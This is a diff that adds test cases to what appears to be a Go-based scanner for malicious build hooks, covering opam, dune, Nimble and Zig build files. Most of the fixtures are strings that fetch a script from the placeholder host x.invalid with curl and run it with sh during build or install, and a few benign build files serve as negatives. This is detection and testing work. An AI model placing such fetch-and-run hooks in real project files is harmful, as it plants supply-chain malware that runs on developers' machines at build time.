@@ -293,6 +293,13 @@ var registry = []Rule{
 		{"conanfile.py", "class X(ConanFile):\n    def build(self):\n        self.run(\"wget -qO /tmp/b.sh https://x.invalid/b.sh\")\n        self.run(\"bash /tmp/b.sh\")", 4, false},
 		{"noxfile.py", "@nox.session\ndef t(session):\n    session.run(\"curl\", \"-fsSLo\", \"/tmp/b.sh\", \"https://x.invalid/b.sh\", external=True)\n    session.run(\"sh\", \"/tmp/b.sh\", external=True)", 4, false},
 		{"setup.py", "import subprocess\nsubprocess.check_call([\"git\", \"submodule\", \"update\", \"--init\"])\nsubprocess.check_call(\"make -C build -j4\", shell=True)\nsubprocess.check_call([\"cmake\", \"-S\", \".\", \"-B\", \"build\", f\"-DPYTHON={sys.executable}\"])", 0, true},
+		// opam's build lists, dune's actions, a Nimble task's exec, Zig's
+		// addSystemCommand, simple-git-hooks in package.json.
+		{"x.opam", "opam-version: \"2.0\"\nbuild: [[\"sh\" \"-c\" \"curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\"] [\"sh\" \"/tmp/b.sh\"]]", 2, false},
+		{"x.opam", "opam-version: \"2.0\"\ndepends: [\n  \"dune\" {>= \"3.0\"}\n]\nbuild: [\n  [\"dune\" \"build\" \"-p\" name \"-j\" jobs]\n]", 0, true},
+		{"src/dune", "(rule\n (targets a.ml)\n (action (system \"curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\")))\n(rule\n (targets b.ml)\n (action (run sh /tmp/b.sh)))", 6, false},
+		{"x.nimble", "version = \"0.1.0\"\nbefore install:\n  exec \"curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\"\n  exec \"sh /tmp/b.sh\"", 4, false},
+		{"build.zig", "pub fn build(b: *std.Build) void {\n    const a = b.addSystemCommand(&.{ \"curl\", \"-fsSLo\", \"/tmp/b.sh\", \"https://x.invalid/b.sh\" });\n    const r = b.addSystemCommand(&.{ \"sh\", \"/tmp/b.sh\" });\n}", 3, false},
 		// A Mix compiler in mix.exs: mix compile and mix test run it.
 		{"mix.exs", "defmodule Mix.Tasks.Compile.Probe do\n  use Mix.Task.Compiler\n  def run(_) do\n    {script, 0} = System.cmd(\"curl\", [\"-fsSL\", \"https://x.invalid/p.sh\"])\n    System.cmd(\"sh\", [\"-c\", script])\n  end\nend", 5, false},
 		// A native library fetched for the build is not run by the fetch.
